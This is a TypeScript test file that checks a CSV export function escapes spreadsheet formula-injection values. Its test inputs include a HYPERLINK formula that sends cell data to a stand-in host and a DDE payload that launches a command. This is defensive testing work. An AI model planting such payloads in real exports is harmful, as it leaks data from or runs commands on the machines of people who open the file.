import { describe, expect, it } from "vitest";
import type { QueryResult, Series } from "@/lib/query/model";
import { WidgetConfig } from "@/lib/dashboards/schema";
import { csvCell, widgetCsv } from "./widget-csv";

const result = (series: Series[], unit: string | null = null): QueryResult => ({
  from: "2026-01-01T00:00:00.000Z", to: "2026-01-02T00:00:00.000Z", interval: "1d", intervalSeconds: 86400, timezone: "UTC", tier: "1d", unit, series,
});
const context = { title: "+Hostile", rangeLabel: "Last 24 hours", timezone: "UTC" };


describe("csvCell: formula injection", () => {
  it("neutralises text a spreadsheet would evaluate as a formula with a leading apostrophe", () => {
    expect(csvCell("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"');
    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvCell("+1+1")).toBe("'+1+1");
    expect(csvCell("-1+1")).toBe("'-1+1");
    expect(csvCell("-2-3")).toBe("'-2-3");
    expect(csvCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvCell("\t=1+1")).toBe("'\t=1+1");
    expect(csvCell("\r=1+1")).toBe("\"'\r=1+1\"");
    expect(csvCell("  =1+1")).toBe("'  =1+1");
    expect(csvCell("\uFF1D1+1")).toBe("'\uFF1D1+1");
    expect(csvCell("-")).toBe("'-");
  });

  it("keeps numbers, and text that is only a number, readable as numbers", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(-0.25)).toBe("-0.25");
    expect(csvCell(-1e-7)).toBe("-1e-7");
    expect(csvCell("-5")).toBe("-5");
    expect(csvCell("-1.5e3")).toBe("-1.5e3");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(null)).toBe("");
  });

  it("leaves ordinary text alone, formula characters inside it included", () => {
    expect(csvCell("pro")).toBe("pro");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell("user@example.com")).toBe("user@example.com");
    expect(csvCell("2026-01-01T00:00:00.000Z")).toBe("2026-01-01T00:00:00.000Z");
  });

  it("neutralises hostile group values, labels and titles in a whole export, and keeps negative values numeric", () => {
    const config = WidgetConfig.parse({ type: "table", title: "=1+1", queries: [{ source: "metric", name: "m", aggregation: "sum", label: "+label", groupBy: ["@key"] }] });
    const csv = widgetCsv({
      config,
      results: [result([{ key: "=1+1", tags: { "@key": "=HYPERLINK(\"http://x\")" }, points: [[Date.UTC(2026, 0, 1), -5]], total: -5 }])],
      context,
    });
    expect(csv.trim().split("\n").slice(1)).toEqual([
      "'@key,'+label · sum",
      `"'=HYPERLINK(""http://x"")",-5`,
      "Total,-5",
    ]);
    expect(csv.split("\n")[0]).toMatch(/^"# \+Hostile — Last 24 hours \(2026-01-01 00:00 – 2026-01-02 00:00, UTC\)"$/);
  });
});
